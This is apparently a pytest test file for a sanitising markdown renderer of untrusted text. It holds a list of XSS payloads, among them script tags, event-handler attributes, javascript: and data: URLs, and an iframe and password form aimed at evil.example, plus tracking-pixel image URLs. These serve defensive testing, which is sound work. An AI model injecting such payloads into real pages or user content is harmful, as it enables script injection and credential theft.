"""Safe markdown rendering of untrusted text (``projects.rendering.render_markdown``)."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest

from projects.rendering import render_markdown


class _Tags(HTMLParser):
    """Every start tag with its attributes, and the tags still open at the end (nesting check)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.max_pre_depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in ("br", "hr", "img"):
            self.open.append(tag)
        self.max_pre_depth = max(self.max_pre_depth, self.open.count("pre"))

    def handle_endtag(self, tag: str) -> None:
        if tag in self.open:
            del self.open[len(self.open) - 1 - self.open[::-1].index(tag)]


def parse(html: str) -> _Tags:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser


PAYLOADS = [
    "<script>window.pwned = 1</script>",
    '<img src=x onerror="window.pwned = 1">',
    "![x](x)\n\n<img src=x onerror=alert(1)>",
    "[click](javascript:window.pwned=1)",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    '<svg onload="window.pwned=1"><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<iframe src="https://evil.example/"></iframe>',
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    "<style>body { display: none }</style>",
    '<p style="position:fixed;top:0">overlay</p>',
    '<a href="https://example.org/" onclick="window.pwned=1">x</a>',
    "<details open ontoggle=alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
]
FORBIDDEN_TAGS = {"script", "iframe", "form", "input", "button", "style", "svg", "object", "embed", "details", "math"}
URL_ATTRIBUTES = {"href", "src", "xlink:href", "action", "formaction"}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_survives_as_markup(payload: str) -> None:
    tags = parse(render_markdown(payload)).tags
    for tag, attrs in tags:
        assert tag not in FORBIDDEN_TAGS, (payload, tag)
        for name, value in attrs.items():
            assert not name.startswith("on"), (payload, name)
            assert name != "style", payload
            if name in URL_ATTRIBUTES:
                assert urlsplit((value or "").strip()).scheme.lower() in ("", "http", "https", "mailto"), (
                    payload,
                    value,
                )


def test_raw_html_is_shown_as_text() -> None:
    assert render_markdown("<b>bold</b>") == "<p>&lt;b&gt;bold&lt;/b&gt;</p>\n"


def test_links_are_kept_and_marked_nofollow() -> None:
    html = render_markdown("[docs](https://example.org/a)")
    assert 'href="https://example.org/a"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_a_fenced_code_block_yields_exactly_one_pre() -> None:
    html = render_markdown("Before\n\n```python\nimport os\nprint('<b>')\n```\n\nAfter")
    parsed = parse(html)
    pres = [attrs for tag, attrs in parsed.tags if tag == "pre"]
    assert pres == [{"class": "highlight"}]
    assert parsed.max_pre_depth == 1
    assert [tag for tag, _ in parsed.tags].count("code") == 1
    assert '<span class="kn">import</span>' in html  # Pygments' token classes survive the sanitiser
    assert "&lt;b&gt;" in html


@pytest.mark.parametrize("fence", ["```\nplain <x>\n```", "```no-such-language\nx = 1\n```", "    indented code"])
def test_other_code_blocks_are_one_pre_too(fence: str) -> None:
    parsed = parse(render_markdown(fence))
    assert [tag for tag, _ in parsed.tags].count("pre") == 1
    assert parsed.max_pre_depth == 1


def test_empty_text_renders_nothing() -> None:
    assert render_markdown("") == ""


@pytest.mark.parametrize(
    "text",
    [
        "![pixel](https://tracker.example/p.png?who=alice)",
        '![pixel](https://tracker.example/p.png "title")',
        "![pixel][ref]\n\n[ref]: //tracker.example/p.png",
        "[![pixel](http://tracker.example/p.png)](https://ok.example)",
        "![pixel](/static/same-origin.png)",
        "![pixel](data:image/png;base64,iVBORw0KGgo=)",
    ],
)
def test_images_are_never_loaded_only_named(text: str) -> None:
    """Model output and imported text cannot make the browser fetch a URL (a tracking pixel):
    every markdown image becomes its alt text in a placeholder, with no src anywhere."""
    html = str(render_markdown(text))
    tags = parse(html).tags
    assert "img" not in [tag for tag, _ in tags]
    assert all("src" not in attrs for _, attrs in tags)
    assert "tracker.example" not in html.replace('href="https://ok.example"', "")
    assert '<span class="image-placeholder">[image: pixel]</span>' in html


def test_an_image_without_alt_text_is_a_bare_placeholder() -> None:
    assert (
        str(render_markdown("![](https://x.example/a.png)"))
        == '<p><span class="image-placeholder">[image]</span></p>\n'
    )
